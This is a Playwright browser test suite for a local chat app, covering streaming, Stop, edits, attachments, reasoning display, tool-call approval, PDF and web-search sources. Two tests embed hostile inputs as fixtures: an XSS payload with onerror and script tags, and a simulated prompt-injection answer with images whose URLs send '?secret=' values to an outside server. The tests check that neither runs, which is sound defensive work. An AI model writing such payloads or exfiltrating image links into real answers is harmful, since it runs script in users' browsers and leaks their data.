"""The app in headless Chromium (Playwright driving Debian's /usr/bin/chromium). Screenshots go to
tests/artifacts/ (not committed). CI sets REQUIRE_BROWSER=1, which turns a missing browser into a failure."""

import http.server
import os
import random
import shutil
import threading
import time
from pathlib import Path

import pytest

from demo_model import data as demo_data
from fixtures.app_server import interrupted, launched, serve
from local_chat.defaults import DEMO_MODEL
from local_chat.model.meta import MetaModel

CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = Path(__file__).resolve().parent / "artifacts"


def _browser_missing() -> str | None:
    try:
        import playwright  # noqa: F401
    except ImportError:
        return 'playwright is not installed (pip install -e ".[dev]")'
    if not Path(CHROMIUM).exists() and not shutil.which("chromium"):
        return "Chromium is not installed (apt-get install -y chromium)"
    return None


if (_reason := _browser_missing()) and os.environ.get("REQUIRE_BROWSER") == "1":
    raise RuntimeError(f"Browser tests are required here but cannot run: {_reason}.")
pytestmark = [
    pytest.mark.skipif(_reason is not None, reason=_reason or ""),
    pytest.mark.skipif(not (DEMO_MODEL / "config.json").exists(), reason="the demo model is not built"),
]

# Every text the last bot message shows, as the page renders it, recorded on each DOM change.
RECORD_BOT_TEXTS = """() => {
  window.botTexts = [];
  const record = () => {
    const bots = Array.from(document.querySelectorAll('[data-testid="bot"]'))
      .filter(b => !b.querySelector('.thought-group'));
    if (bots.length) window.botTexts.push(bots[bots.length - 1].innerText);
  };
  new MutationObserver(record).observe(document.body, {subtree: true, childList: true, characterData: true});
}"""


@pytest.fixture(scope="module")
def demo():
    # one token per forward pass: serve()'s delay paces the answers, and Stop counts passes (no guessed runs)
    return MetaModel.from_pretrained(str(DEMO_MODEL), speculative="off")


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM if Path(CHROMIUM).exists() else shutil.which("chromium"), args=["--no-sandbox"]
        )
        yield browser
        browser.close()


# the page is ready once its message box takes text (with saved conversations, once its first load gave it its id)
READY = ".message textarea:not([disabled])"


def open_page(browser, url, ready: str = READY):
    """A new page at `url`, once `ready` shows (another front end than ours: its own selector)."""
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    page.goto(url)
    page.wait_for_selector(ready)
    return page


# the bot messages that are answers (the figures under an answer are a notice, a "thought" of its own)
ANSWERS = (
    """Array.from(document.querySelectorAll('[data-testid="bot"]')).filter(b => !b.querySelector('.thought-group'))"""
)


def last_bot_text(page) -> str:
    return page.evaluate(
        f"() => {{ const bots = {ANSWERS}; return bots.length ? bots[bots.length - 1].innerText : ''; }}"
    )


def send(page, text, tab_panel=None):
    box = (tab_panel or page).locator("textarea").first
    box.fill(text)
    box.press("Enter")


def wait_for_answer(page, done, timeout=30.0) -> str:
    deadline = time.time() + timeout
    while time.time() < deadline:
        text = last_bot_text(page)
        if done(text):
            return text
        time.sleep(0.1)
    raise AssertionError(f"no answer in {timeout} s; last bot text: {last_bot_text(page)!r}")


def test_question_streams_without_separator(browser, demo):
    with serve(demo, delay=0.02) as (url, _):
        page = open_page(browser, url)
        first_textbox = page.locator("textarea").first
        assert first_textbox.get_attribute("placeholder").startswith("Type a message and press Enter")
        page.evaluate(RECORD_BOT_TEXTS)
        send(page, "Who are you?")
        answer = wait_for_answer(page, lambda t: t.endswith("/path/to/checkpoint."))
        page.screenshot(path=str(ARTIFACTS / "chat.png"), full_page=True)
        seen = page.evaluate("window.botTexts")
        growing = sorted({t for t in seen if t}, key=len)
        assert len(growing) > 3, "the answer did not stream"
        assert not any("#" in t for t in seen), [t for t in seen if "#" in t][:3]
        assert answer.startswith("I am the built-in demo model")
        figures = page.locator('[data-testid="bot"] .thought-group').last.inner_text()
        assert "tokens/s" in figures  # under its own answer


def test_stop_mid_answer(browser, demo):
    with serve(demo, delay=0.1) as (url, counter):
        page = open_page(browser, url)
        send(page, "Who are you?")
        wait_for_answer(page, lambda t: len(t) > 20)
        page.get_by_role("button", name="Stop", exact=True).first.click()
        at_stop = counter.calls
        stopped_at = counter.settled(quiet=0.6)
        shown = last_bot_text(page)
        page.screenshot(path=str(ARTIFACTS / "stopped.png"), full_page=True)
        assert stopped_at - at_stop <= 2, f"{stopped_at - at_stop} forward passes after Stop"
        assert not shown.endswith("/path/to/checkpoint.") and len(shown) > 20
        send(page, "What is the capital of Egypt?")
        assert wait_for_answer(page, lambda t: "Cairo" in t)


def test_stop_shows_while_the_next_answer_streams(browser, demo, monkeypatch):
    """A message sent as the answer before ends: that answer's Send comes back (its `finished`, held here for 2 s)
    after the new answer began, and the new answer still shows Stop, which stops it."""
    import functools

    from local_chat.ui.chat_tab import ChatTab

    finished, came_late = ChatTab.finished, threading.Event()

    @functools.wraps(finished)
    def finished_late(self, *args, **kwargs):
        if not came_late.is_set():
            time.sleep(2)
            came_late.set()
        return finished(self, *args, **kwargs)

    monkeypatch.setattr(ChatTab, "finished", finished_late)
    with serve(demo, delay=0.05) as (url, counter):
        page = open_page(browser, url)
        send(page, "What is the capital of France?")
        wait_for_answer(page, lambda t: t.endswith("Paris."))
        counter.delay = 0.3
        send(page, "Who are you?")
        assert came_late.wait(10)
        page.get_by_role("button", name="Stop", exact=True).first.click(timeout=5000)
        at_stop = counter.calls
        assert counter.settled(quiet=0.6) - at_stop <= 2
        assert not last_bot_text(page).endswith("/path/to/checkpoint.")


def test_stop_touches_only_its_own_session(browser, demo):
    with serve(demo, delay=0.03) as (url, _):
        alice, bob = open_page(browser, url), open_page(browser, url)
        send(alice, "Who are you?")
        send(bob, "What can you do?")  # waits in the queue behind Alice's answer
        wait_for_answer(alice, lambda t: len(t) > 20)
        alice.locator("button", has_text="Stop").first.click()
        assert wait_for_answer(bob, lambda t: t.endswith("/path/to/checkpoint."), timeout=30)
        assert not last_bot_text(alice).endswith("/path/to/checkpoint.")


def test_new_message_while_streaming_stops_the_old_answer(browser, demo):
    with serve(demo, delay=0.1) as (url, counter):
        page = open_page(browser, url)
        send(page, "Who are you?")
        wait_for_answer(page, lambda t: len(t) > 20)
        send(page, "What is the capital of Egypt?")
        at_send = counter.calls
        assert wait_for_answer(page, lambda t: "Cairo" in t, timeout=20)
        steps_after_send = counter.settled(quiet=0.5) - at_send
        stopped, answer = page.evaluate(f"() => {ANSWERS}.map(b => b.innerText)")[-2:]
        assert stopped.startswith("I am") and not stopped.endswith("/path/to/checkpoint.")  # the first answer was cut
        # The new answer takes a step per token, plus its prompt and its stop; the rest of the old answer (about 50
        # steps) must not have run. How long the new answer is does not matter: that is the model's business.
        new_answer_steps = len(demo.tokenizer.encode(answer, bos=False)) + 3
        assert steps_after_send - new_answer_steps <= 4, (steps_after_send, answer)


def test_edit_undo_regenerate(browser, demo):
    with serve(demo) as (url, _):
        page = open_page(browser, url)
        user_texts = page.locator('[data-testid="user"]')
        send(page, "What is the capital of Japan?")
        wait_for_answer(page, lambda t: "Tokyo" in t)
        send(page, "What is the capital of Spain?")
        wait_for_answer(page, lambda t: "Madrid" in t)
        time.sleep(0.5)
        user_texts.first.hover()
        page.get_by_label("Edit").first.click()
        page.locator("textarea.edit-textarea").fill("What is the capital of Italy?")
        page.get_by_label("Submit").first.click()
        wait_for_answer(page, lambda t: "Rome" in t)
        assert user_texts.all_inner_texts() == ["What is the capital of Italy?"]  # what followed the edit is gone
        assert page.get_by_role("button", name="Regenerate").count() == 0  # one Regenerate/Undo: the answer's own
        page.locator('[data-testid="bot"]').last.hover()
        page.get_by_label("Retry").last.click()
        time.sleep(0.5)
        assert wait_for_answer(page, lambda t: "Rome" in t) and page.evaluate(f"() => {ANSWERS}.length") == 1
        page.locator('[data-testid="bot"]').last.hover()
        page.get_by_label("Undo").last.click()
        page.wait_for_function("document.querySelectorAll('[data-testid=\"user\"]').length == 0")
        assert page.locator("textarea").first.input_value() == "What is the capital of Italy?"  # back to edit


def test_closing_the_tab_stops_the_answer(browser, demo):
    with serve(demo, delay=0.1) as (url, counter):
        page = open_page(browser, url)
        send(page, "Who are you?")
        wait_for_answer(page, lambda t: len(t) > 20)
        page.close()
        at_close = counter.calls
        stopped_at = counter.settled(quiet=0.6)
        assert stopped_at - at_close <= 2, f"{stopped_at - at_close} forward passes after the tab closed"


def attach(page, path) -> None:
    """Attach a file with the message box's attach button (its file input)."""
    page.locator(".message input[type=file]").set_input_files(str(path))
    page.locator(".message img").first.wait_for(timeout=15000)  # the attachment's thumbnail


def test_an_attached_image_is_answered_and_shown_in_the_message(browser, demo, tmp_path):
    image, shapes = demo_data.shapes_image(random.Random(7), 1)
    path = tmp_path / "shapes.png"
    image.save(path)
    with serve(demo) as (url, _):
        page = open_page(browser, url)
        attach(page, path)
        colour, kind = shapes[0]
        send(page, f"What color is the {kind}?")
        answer = wait_for_answer(page, lambda t: t.endswith("."))
        page.screenshot(path=str(ARTIFACTS / "vision.png"), full_page=True)
        assert answer == f"The {kind} is {colour}.", answer
        assert page.locator('[data-testid="user"] img').count() == 1  # the image shows in the user's message


def test_a_text_only_model_takes_documents_but_no_images(browser, byte_model):
    with serve(byte_model) as (url, _):
        page = open_page(browser, url)
        tabs = page.get_by_role("tab").all_inner_texts()
        page.screenshot(path=str(ARTIFACTS / "text-only.png"), full_page=True)
        assert "Chat" in tabs and "Single-turn" in tabs and "Vision chat" not in tabs
        accepted = page.locator(".message input[type=file]").first.get_attribute("accept")
        assert ".pdf" in accepted and "image" not in accepted  # documents only


ATTACK = '<img src=x onerror="window.attacked=(window.attacked||0)+1"> <script>window.attacked=99</script> **bold**'


def test_html_in_a_message_and_in_an_answer_never_runs(browser, demo, monkeypatch):
    from local_chat.engine import Delta, End

    def answer_with_html(request):  # a model that echoes what a web page told it to say
        yield Delta(ATTACK)
        yield End("stop", completion_tokens=1)

    monkeypatch.setattr(demo.engine, "stream", answer_with_html)
    with serve(demo) as (url, _):
        page = open_page(browser, url)
        dialogs = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        send(page, ATTACK)
        wait_for_answer(page, lambda t: "bold" in t)
        page.locator("button", has_text="Prompt sent to the model").first.click()
        time.sleep(1)
        page.screenshot(path=str(ARTIFACTS / "html-in-messages.png"), full_page=True)
        assert page.evaluate("window.attacked") is None and dialogs == []
        assert page.locator("[onerror]").count() == 0 and page.locator(".message-content script").count() == 0
        assert page.locator('[data-testid="user"] strong').first.inner_text() == "bold"  # markdown still renders


def test_images_in_an_answer_never_call_an_outside_address(browser, demo, monkeypatch):
    requests = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    outside = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=outside.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{outside.server_address[1]}"
    leak = f'Sure. <img src="{address}/tag.png?secret=1"> ![chart]({address}/markdown.png?secret=2) Done.'

    from local_chat.engine import Delta, End

    def answer_with_images(request):  # what a prompt injection would have the model write
        yield Delta(leak)
        yield End("stop", completion_tokens=1)

    monkeypatch.setattr(demo.engine, "stream", answer_with_images)
    try:
        with serve(demo) as (url, _):
            page = open_page(browser, url)
            send(page, "Summarize this web page.")
            wait_for_answer(page, lambda t: "Done." in t)
            time.sleep(1)
            assert page.locator('[data-testid="bot"] img').count() == 2  # rendered, but not fetched
    finally:
        outside.shutdown()
    assert requests == []


def test_an_empty_message_is_a_warning(browser, demo):
    with serve(demo) as (url, counter):
        page = open_page(browser, url)
        send(page, "   ")
        page.get_by_text("The message is empty; type a question first.").wait_for(timeout=10000)
        assert counter.calls == 0 and page.locator('[data-testid="user"]').count() == 0


def test_gradios_own_openai_front_end_chats_through_v1(browser, demo):
    """gr.load_chat, an OpenAI front end nobody here wrote, talks to the app's /v1 API with a key."""
    import gradio as gr

    from local_chat.launchers.loading import free_port

    with serve(demo, api_keys=["secret-key"]) as (url, counter):
        front = gr.load_chat(url + "/v1/", model="demo-model", token="secret-key")
        port = free_port()
        front.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
        try:
            before = counter.calls
            page = open_page(browser, f"http://127.0.0.1:{port}", ready="textarea")  # Gradio's own chat page
            send(page, "What is the capital of France?")
            answer = wait_for_answer(page, lambda t: t.endswith("Paris."))
            page.screenshot(path=str(ARTIFACTS / "load_chat.png"), full_page=True)
            assert answer == "The capital of France is Paris." and counter.calls > before
        finally:
            front.close()


def test_the_app_in_front_of_an_engine_chats_and_stops(browser, demo):
    """`python app.py --api_base URL`: the page over another server's model (our own /v1 here, its forward passes
    counted); two turns answered right, and Stop stops the engine's model within two steps."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    with serve(demo, delay=0.05) as (url, counter):
        front, client = launched("--api_base", url + "/v1", "--vision")
        try:
            page = open_page(browser, client.src)
            assert "served by " + url + "/v1" in page.content()
            send(page, "What is the capital of France?")
            assert wait_for_answer(page, lambda t: t.endswith("Paris.")) == "The capital of France is Paris."
            send(page, "What is 23 plus 45?")
            assert wait_for_answer(page, lambda t: t.endswith("68.")).startswith("23 plus 45")
            page.screenshot(path=str(ARTIFACTS / "engine_front.png"), full_page=True)
            counter.delay = 0.5  # the answer to stop (63 tokens): still streaming when Stop is pressed, under load
            send(page, "Who are you?")
            wait_for_answer(page, lambda t: t.startswith("I am"))
            stop = page.get_by_role("button", name="Stop", exact=True).first
            try:
                stop.click(timeout=10_000)
            except PlaywrightTimeout:
                pytest.fail(f"no Stop button while answering: {last_bot_text(page)!r} after {counter.calls} steps")
            at_stop = counter.calls
            assert counter.settled(quiet=0.6) - at_stop <= 2
            assert not last_bot_text(page).endswith("/path/to/checkpoint.")
        finally:
            interrupted(front)


# the Thinking blocks on the page: their header's text, their whole text, and whether their body shows
THOUGHTS = """() => Array.from(document.querySelectorAll('[data-testid="bot"] .thought-group')).map(g => {
  const body = g.querySelector('.message-content, .thought-content, .content');
  return {text: g.innerText, shown: !!(body && body.offsetParent !== null && body.innerText.trim())};
}).filter(t => t.text.startsWith('Thinking'))"""
REASONING = "The user greets me. " * 6 + "I greet back."


def thoughts(page) -> list[dict]:
    return page.evaluate(THOUGHTS)


def wait_for_thought(page, done, timeout=30.0) -> dict:
    deadline = time.time() + timeout
    while time.time() < deadline:
        shown = thoughts(page)
        if shown and done(shown[-1]):
            return shown[-1]
        time.sleep(0.05)
    raise AssertionError(f"no such thought in {timeout} s: {thoughts(page)!r}")


def test_a_reasoning_models_thought_streams_folds_and_comes_back(browser, tmp_path):
    """A tiny Qwen3 with its published template, forced to think then answer: the thought streams into a Thinking
    block (open) before the answer, folds once the answer begins, and the answer stands alone; a reload shows both
    again; Stop while it thinks stops the model within 2 steps and keeps the thought."""
    from fixtures import tiny_models
    from local_chat.history import Store

    model = MetaModel.from_pretrained(str(tiny_models.save_tiny_qwen3(tmp_path / "qwen3")))
    forced = tiny_models.ForcedAnswer(model.llma, model.tokenizer.hf, "x", "<|im_end|>")
    forced.again(f"<think>\n{REASONING}\n</think>\n\nHello! How can I help?", model.tokenizer.hf, "<|im_end|>")
    store = Store(tmp_path / "conversations.db")
    try:
        with serve(model, delay=0.03, store=store) as (url, counter):
            page = open_page(browser, url)
            switch = page.get_by_label("Think before answering")
            assert switch.is_visible() and switch.is_checked()  # Qwen3 thinks with the variable unset
            send(page, "Hello there!")
            streaming = wait_for_thought(page, lambda t: "greets me" in t["text"])
            assert streaming["shown"] and last_bot_text(page) == ""  # open while it thinks, no answer yet
            answer = wait_for_answer(page, lambda t: t.endswith("How can I help?"))
            done = wait_for_thought(page, lambda t: not t["shown"])  # folded once the answer began
            page.screenshot(path=str(ARTIFACTS / "thinking.png"), full_page=True)
            page.locator("button", has_text="Prompt sent to the model").first.click()
            time.sleep(0.5)
            prompt = page.locator(".prompt-view").first.inner_text()

            page.set_viewport_size({"width": 390, "height": 844})  # a phone, reloading: the conversation comes back
            page.reload()
            page.wait_for_selector(READY)
            reloaded = wait_for_thought(page, lambda t: "Thinking" in t["text"])
            assert wait_for_answer(page, lambda t: t.endswith("How can I help?"))
            page.screenshot(path=str(ARTIFACTS / "thinking-390.png"), full_page=True)
            page.set_viewport_size({"width": 1280, "height": 1000})

            # Stop while it thinks: the model stops within 2 steps, the thought stays, marked stopped
            forced.again(f"<think>\n{REASONING * 8}\n</think>\n\nDone.", model.tokenizer.hf, "<|im_end|>")
            counter.delay = 0.1
            send(page, "Think long.")
            wait_for_thought(page, lambda t: t["text"].count("greets me") >= 3)
            page.get_by_role("button", name="Stop", exact=True).first.click()
            at_stop = counter.calls
            stopped_at = counter.settled(quiet=0.6)
            time.sleep(0.5)
            kept = thoughts(page)[-1]
            page.screenshot(path=str(ARTIFACTS / "thinking-stopped.png"), full_page=True)
    finally:
        forced.remove()
        store.close()
    assert answer == "Hello! How can I help?" and "Thinking" in done["text"] and "Thinking" in reloaded["text"]
    assert "<|im_start|>user\nHello there!<|im_end|>\n<|im_start|>assistant" in prompt
    assert stopped_at - at_stop <= 2, f"{stopped_at - at_stop} forward passes after Stop"
    assert "Thinking" in kept["text"]


def test_an_example_click_sends_it(browser, demo):
    with serve(demo) as (url, _):
        page = open_page(browser, url)
        page.get_by_text("Examples (a click sends one)").first.wait_for()
        page.get_by_role("button", name="What is the capital of Japan?").first.click()
        assert wait_for_answer(page, lambda t: t.endswith("Tokyo.")) == "The capital of Japan is Tokyo."
        assert page.locator('[data-testid="user"]').all_inner_texts() == ["What is the capital of Japan?"]
        assert page.locator("textarea").first.input_value() == ""  # sent: the box is empty again


def test_a_tool_call_is_shown_approved_run_and_folded_and_the_answer_goes_on(browser, tmp_path):
    """A tiny Qwen3 made to call the tools of an MCP server (tests/mcp_server.py, over stdio): the card shows the
    call's arguments with its buttons, nothing runs before Allow once; the result folds and the answer after it
    streams. Deny sends the refusal; Always allow runs the next call without a card; Stop during a slow call stops
    it; a server that exits mid-call is an error sentence and the page goes on. The Tools control lists the tools
    and the server that cannot start, with its sentence."""
    import sys

    from test_tools import SERVER, call

    from fixtures import tiny_models
    from local_chat.history import Store
    from local_chat.tools import ServerSpec, ToolServers

    config = tiny_models.TEXT_CONFIG | {"head_dim": 16, "max_position_embeddings": 4096}
    model = MetaModel.from_pretrained(str(tiny_models.save_tiny_qwen3(tmp_path / "qwen3", config=config)))
    hf, end = model.tokenizer.hf, "<|im_end|>"
    forced = tiny_models.ForcedAnswer(model.llma, hf, "x", end)
    specs = [ServerSpec("weather", command=sys.executable, args=(SERVER,)), ServerSpec("broken", command="no-such-x")]
    servers, store = ToolServers(specs, timeout_s=60), Store(tmp_path / "conversations.db")
    try:
        with serve(model, delay=0.01, store=store, tool_servers=servers) as (url, _):
            page = open_page(browser, url)
            page.get_by_text("Tools (4)").first.click()
            page.get_by_text("get_weather · weather").first.wait_for()
            assert "'broken' could not start" in page.locator(".tools-note").first.inner_text()
            page.screenshot(path=str(ARTIFACTS / "tools-settings.png"), full_page=True)
            page.get_by_text("Tools (4)").first.click()

            # Allow once: the card waits with the arguments, then the result folds and the answer streams
            forced.in_turn([call("get_weather", city="Paris"), "It is sunny in Paris."], hf, end)
            send(page, "What is the weather in Paris?")
            page.get_by_role("button", name="Allow once", exact=True).wait_for()
            page.locator('[data-testid="bot"]', has_text="Paris").last.wait_for()  # it may paint after its buttons
            card = page.locator('[data-testid="bot"]').last.inner_text()
            page.screenshot(path=str(ARTIFACTS / "tool-card.png"), full_page=True)
            choose(page, "Allow once")
            answer = wait_for_answer(page, lambda t: t.endswith("It is sunny in Paris."))
            page.get_by_text("Result of get_weather").first.wait_for()
            page.screenshot(path=str(ARTIFACTS / "tool-result.png"), full_page=True)
            answered(page)  # the next forced answer starts after this one's last step

            # Deny: the model is told, and answers
            forced.in_turn([call("get_weather", city="Rome"), "I may not look."], hf, end)
            send(page, "And in Rome?")
            choose(page, "Deny")
            denied = wait_for_answer(page, lambda t: t.endswith("I may not look."))
            answered(page)

            # Always allow: this call runs, and the next one without a card
            forced.in_turn([call("get_weather", city="Oslo"), "Cold."], hf, end)
            send(page, "Oslo?")
            choose(page, "Always allow this tool")
            wait_for_answer(page, lambda t: t.endswith("Cold."))
            answered(page)
            forced.in_turn([call("get_weather", city="Bergen"), "Rainy in Bergen."], hf, end)
            send(page, "Bergen?")
            bergen = wait_for_answer(page, lambda t: t.endswith("Rainy in Bergen."))
            asked_for_bergen = page.get_by_role("button", name="Allow once", exact=True).count()
            answered(page)

            # Stop during a slow call: it stops at once, the conversation stays
            forced.in_turn([call("wait", seconds=30)], hf, end)
            send(page, "Wait half a minute.")
            choose(page, "Allow once")
            page.get_by_text("Running wait").first.wait_for()
            page.screenshot(path=str(ARTIFACTS / "tool-running.png"), full_page=True)
            started = time.perf_counter()
            page.get_by_role("button", name="Stop", exact=True).first.click()
            page.get_by_text("Stopped wait").first.wait_for(timeout=5000)
            stop_took = time.perf_counter() - started
            page.screenshot(path=str(ARTIFACTS / "tool-stopped.png"), full_page=True)
            answered(page)

            # a server that exits mid-call: its sentence, and the page goes on
            forced.in_turn([call("crash"), "The tool broke."], hf, end)
            send(page, "Crash it.")
            choose(page, "Allow once")
            after_crash = wait_for_answer(page, lambda t: t.endswith("The tool broke."))
            page.get_by_text("Error from crash").first.wait_for()
            questions = page.locator('[data-testid="user"]').all_inner_texts()
    finally:
        forced.remove()
        servers.close()
        store.close()
    assert '"city": "Paris"' in card and answer == "It is sunny in Paris." and denied == "I may not look."
    assert bergen == "Rainy in Bergen." and asked_for_bergen == 0
    assert stop_took < 1.0, f"Stop took {stop_took:.2f} s"
    assert after_crash == "The tool broke." and len(questions) == 6  # every turn kept


def answered(page) -> None:
    """Wait for the answer on screen to be over (Send is back): its last forward pass done, so that a forced answer
    set now is the next turn's, not the end of this one's."""
    page.locator(".message button", has_text="Send").first.wait_for()


def choose(page, button: str) -> None:
    """Press a tool call's button once the answer that made the call has ended (Send is back)."""
    page.get_by_role("button", name=button, exact=True).wait_for()
    page.locator(".message button", has_text="Send").first.wait_for()
    page.get_by_role("button", name=button, exact=True).click()


def test_a_pdf_attached_to_a_question_goes_in_whole_and_its_sources_show(browser, demo, tmp_path):
    """A PDF attached in the message box: listed in the question, its text in "Prompt sent to the model", and a
    folded Sources entry under the answer that names it; an encrypted one is taken out with its sentence."""
    from fixtures.documents_files import write_encrypted_pdf, write_pdf
    from local_chat.history import Store

    pdf = write_pdf(tmp_path / "report.pdf", [["Quarterly report."], ["The launch code is ZEBRA-42."]])
    locked = write_encrypted_pdf(tmp_path / "locked.pdf")
    store = Store(tmp_path / "conversations.db")
    try:
        with serve(demo, store=store) as (url, _):
            page = open_page(browser, url)
            page.locator(".message input[type=file]").set_input_files([str(pdf)])
            page.locator(".message .thumbnail-item, .message [data-testid='file']").first.wait_for(timeout=10000)
            send(page, "What is the launch code?")
            page.get_by_text("Sources").first.wait_for(timeout=30000)
            question = page.locator('[data-testid="user"]').last.inner_text()
            page.get_by_text("Sources").first.click()
            time.sleep(0.3)
            sources = page.locator('[data-testid="bot"]', has_text="Sources").last.inner_text()
            page.locator("button", has_text="Prompt sent to the model").first.click()
            time.sleep(0.5)
            prompt = page.locator(".prompt-view").first.inner_text()
            page.screenshot(path=str(ARTIFACTS / "document-sources.png"), full_page=True)

            page.locator(".message input[type=file]").set_input_files([str(locked)])
            page.locator(".message .thumbnail-item, .message [data-testid='file']").first.wait_for(timeout=10000)
            send(page, "And this one?")
            page.get_by_text("locked.pdf is encrypted").first.wait_for(timeout=15000)
            box = page.locator(".message textarea").first.input_value()
    finally:
        store.close()
    assert "report.pdf (2 pages)" in question and "What is the launch code?" in question
    assert "[1] report.pdf" in sources and "whole" in sources
    assert "The launch code is ZEBRA-42." in prompt and '<document source="1" name="report.pdf">' in prompt
    assert box == "And this one?"  # the text stays


def test_search_the_web_shows_its_sources_under_the_answer(browser, demo, tmp_path):
    """The "Search the web" switch under the message box: the question searched (a local SearXNG's JSON API over
    pages of real HTML), the passages in "Prompt sent to the model", and a folded Sources entry under the answer that
    links each page read and says which failed."""
    from fixtures.web_pages import WebSite
    from local_chat.history import Store
    from local_chat.web import FetchLimits, SearchProvider, WebResearch

    store = Store(tmp_path / "conversations.db")
    with WebSite(hits=("/article.html", "/reference.html", "/image.png")) as site:
        research = WebResearch(SearchProvider("searxng", site.url("/searxng")), FetchLimits(5.0, allow_private=True))
        try:
            with serve(demo, store=store, web=research) as (url, _):
                page = open_page(browser, url)
                page.get_by_label("Search the web").check()
                send(page, "How does rustdoc document private items?")
                page.get_by_text("Sources").first.wait_for(timeout=30000)
                page.get_by_text("Sources").first.click()
                time.sleep(0.3)
                sources = page.locator('[data-testid="bot"]', has_text="Sources").last
                links = sources.locator("a").evaluate_all("links => links.map(a => [a.innerText, a.href])")
                shown = sources.inner_text()
                page.locator("button", has_text="Prompt sent to the model").first.click()
                time.sleep(0.5)
                prompt = page.locator(".prompt-view").first.inner_text()
                page.screenshot(path=str(ARTIFACTS / "web-sources.png"), full_page=True)
        finally:
            store.close()
    assert site.asked == ["How does rustdoc document private items?"]
    assert ["[2] Command-line arguments - The rustdoc book", site.url("/reference.html")] in [
        [text.strip(), href] for text, href in links
    ] or ["Command-line arguments - The rustdoc book", site.url("/reference.html")] in links
    assert "Searched the web for “How does rustdoc document private items?”." in shown
    assert "is image/png, not text, HTML or PDF, so it was left out." in shown
    assert "Answer from these web pages where they help" in prompt and f'url="{site.url("/reference.html")}"' in prompt
